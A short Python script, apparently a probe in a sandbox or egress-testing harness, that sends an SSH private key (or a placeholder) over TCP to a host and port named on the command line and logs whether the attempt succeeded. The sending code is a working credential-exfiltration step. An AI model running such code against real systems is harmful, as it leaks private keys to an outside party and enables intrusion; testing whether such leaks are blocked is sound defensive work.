"""Send the SSH key to a TCP port: python3 exfil_tcp.py HOST PORT."""

import socket
import sys

from _attempt import attempt, finish, key_or_placeholder

host, port = sys.argv[1], int(sys.argv[2])
payload = key_or_placeholder()


def send():
    with socket.create_connection((host, port), timeout=3) as conn:
        conn.sendall(payload)
    return f"sent {len(payload)} bytes to {host}:{port}"


attempt(f"connect to {host}:{port} over TCP", send)
finish()
